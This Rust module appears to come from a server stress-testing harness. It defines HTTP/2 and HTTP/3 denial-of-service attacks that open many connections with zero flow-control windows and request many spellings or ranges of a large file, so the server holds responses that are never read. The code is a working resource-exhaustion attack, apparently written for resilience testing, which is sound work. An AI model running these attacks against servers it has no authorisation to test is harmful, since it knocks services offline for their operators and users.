//! Responses that nobody takes: streams with no window, over HTTP/2 and HTTP/3.

use std::time::Duration;

use anyhow::Result;

use super::spellings::spelled;
use crate::client::h2::{self, Http2};
use crate::client::h3::Http3;
use crate::server::LARGE;
use crate::{Attack, AttackContext};

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "h2-spellings-unread",
        "100 spellings of a large file a connection, over HTTP/2 with windows of zero",
        |context| over_h2(context, context.pick(12, 40), by_spelling),
    ),
    Attack::new(
        "h2-ranges-unread",
        "100 ranges of a large file a connection, over HTTP/2 with windows of zero",
        |context| over_h2(context, context.pick(12, 100), by_range),
    ),
    Attack::new(
        "h2-ranges-unread-by-198",
        "the same from 198 connections",
        |context| over_h2(context, 198, by_range),
    )
    .only_in_full(),
    Attack::new(
        "h3-spellings-unread",
        "100 spellings of a large file a connection, over HTTP/3 with windows of zero",
        |context| over_h3(context, context.pick(12, 30), by_spelling),
    ),
    Attack::new(
        "h3-ranges-unread",
        "100 ranges of a large file a connection, over HTTP/3 with windows of zero",
        |context| over_h3(context, context.pick(12, 40), by_range),
    ),
];

const STREAMS: usize = 100;

/// Path and Range field of the `n`th request.
type Ask = fn(usize) -> (String, Option<String>);

fn by_spelling(n: usize) -> (String, Option<String>) {
    (spelled(LARGE, n), None)
}

fn by_range(n: usize) -> (String, Option<String>) {
    (format!("/{LARGE}"), Some(format!("bytes={n}-")))
}

fn over_h2(context: &mut AttackContext<'_>, connections: usize, ask: Ask) -> Result<()> {
    let mut held = Vec::new();
    for connection in 0..connections {
        let mut requests = Vec::new();
        for n in 0..STREAMS {
            let (path, range) = ask(connection * STREAMS + n);
            let range: Vec<_> = range
                .iter()
                .map(|range| ("range", range.as_str()))
                .collect();
            let stream = u32::try_from(2 * n + 1)?;
            requests.extend(h2::get(stream, &path, &range));
        }
        // A server may refuse the client that wants too much.
        if let Ok(mut client) = Http2::connect(&context.target(), AttackContext::ATTACKER, 0)
            && client.write(&requests).is_ok()
        {
            held.push(client);
        }
    }
    wait(context);
    context.check(
        "connections",
        "≥ 1",
        held.len().to_string(),
        !held.is_empty(),
    );
    Ok(())
}

fn over_h3(context: &mut AttackContext<'_>, connections: usize, ask: Ask) -> Result<()> {
    let mut held = Vec::new();
    for connection in 0..connections {
        let Ok(mut client) = Http3::connect(&context.target(), AttackContext::ATTACKER, 0) else {
            continue;
        };
        client.quic.turn();
        for n in 0..STREAMS {
            let (path, range) = ask(connection * STREAMS + n);
            let range: Vec<_> = range
                .iter()
                .map(|range| ("range", range.as_str()))
                .collect();
            client.get(&path, &range);
        }
        client.quic.drive(Duration::from_millis(5), |_| false);
        held.push(client);
    }
    wait(context);
    for client in &mut held {
        client.quic.turn();
    }
    context.check(
        "connections",
        "≥ 1",
        held.len().to_string(),
        !held.is_empty(),
    );
    Ok(())
}

/// Gives the server time to read what it will.
fn wait(context: &AttackContext<'_>) {
    std::thread::sleep(context.pick(Duration::from_millis(700), Duration::from_secs(3)));
}
